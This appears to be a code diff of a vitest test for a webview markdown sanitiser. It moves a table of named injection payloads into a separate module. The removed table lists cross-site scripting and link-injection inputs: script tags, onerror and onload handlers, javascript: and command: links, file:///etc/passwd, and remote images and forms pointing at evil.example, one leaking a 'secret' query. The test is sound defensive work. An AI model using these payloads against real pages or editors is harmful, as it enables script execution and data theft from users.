@@ -3,6 +3,7 @@ import { describe, expect, it } from 'vitest';
 
 import { blocks, rendered, sanitised } from '../../src/webview/markdown.js';
 import { visible } from '../../src/webview/visible.js';
+import { INJECTIONS } from './injections.js';
 
 function page(text: string): HTMLElement {
   const env = {};
@@ -10,47 +11,6 @@ function page(text: string): HTMLElement {
   root.append(rendered(blocks(visible(text), env), env));
   return root;
 }
-
-/** What an answer may hold to do harm, by name. */
-const INJECTIONS: Record<string, string> = {
-  'a script': '<script>globalThis.harmed = 1</script>',
-  'a script in a code span': '`<script>globalThis.harmed = 1</script>`',
-  'a script in a fence': '```html\n<script>globalThis.harmed = 1</script>\n```',
-  'a script after a fence that is never closed': '```\n</code></pre><script>globalThis.harmed = 1</script>',
-  'an event handler': '<img src=x onerror="globalThis.harmed = 1">',
-  'a drawing with a handler': '<svg onload="globalThis.harmed = 1"><animate onbegin="x()"></svg>',
-  'mathematics around a style': '<math><mtext><table><mglyph><style><img src=x onerror=x()></style>',
-  'a frame': '<iframe src="https://evil.example"></iframe>',
-  'a form': '<form action="https://evil.example"><input name=q><button>go</button></form>',
-  'a base address': '<base href="https://evil.example/">',
-  'a style': '<style>body { background: url(https://evil.example/?a) }</style>',
-  'a style attribute': '<p style="background: url(https://evil.example)">x</p>',
-  'a policy of its own': '<meta http-equiv="Content-Security-Policy" content="default-src *">',
-  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-  'a remote image': '![x](https://evil.example/a.png?q=secret)',
-  'a remote image by reference': '![x][i]\n\n[i]: https://evil.example/a.png',
-  'an image in a link': '[![x](https://evil.example/a.png)](https://evil.example)',
-  'an image of data': '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
-  'a command link': '[run](command:workbench.action.terminal.new)',
-  'a command link in disguise': '[run](&#99;ommand:workbench.action.terminal.new)',
-  'a script link': '[x](javascript:globalThis.harmed=1)',
-  'a script link with a tab': '[x](java\tscript:globalThis.harmed=1)',
-  'a script link in entities': '[x](&#x6A;avascript:alert&#40;1&#41;)',
-  'a script link by reference': '[x][j]\n\n[j]: javascript:alert(1)',
-  'an autolink': '<javascript:alert(1)>',
-  'a data link': '[x](data:text/html,<script>alert(1)</script>)',
-  'a file link': '[x](file:///etc/passwd)',
-  'an editor link': '[x](vscode://ms.x/run?a)',
-  'a link without a scheme': '[x](//evil.example/a.js)',
-  'quotes in a title': '[x](https://a.example "\\"><img src=x onerror=alert(1)>")',
-  'quotes in an address': '[x](https://a.example/"onmouseover="alert(1))',
-  'markup in the name of a language': '```"><img src=x onerror=alert(1)>\ncode\n```',
-  'markup in the name of a file': '```py src/"><img/src=x/onerror=alert(1)>.py\ncode\n```',
-  'a closing fence inside': '```html\n<!--\n```\n<script>globalThis.harmed = 1</script>',
-  'a template': '<template><script>globalThis.harmed = 1</script></template>',
-  'clobbered names': '<a id="root" name="body">x</a><form id="attributes">',
-  'a null in a tag': '<scr\u0000ipt>globalThis.harmed = 1</scr\u0000ipt>',
-};
 
 describe('an answer that wants to do harm', () => {
   it.each(Object.entries(INJECTIONS))('%s is shown, not obeyed', (_, text) => {
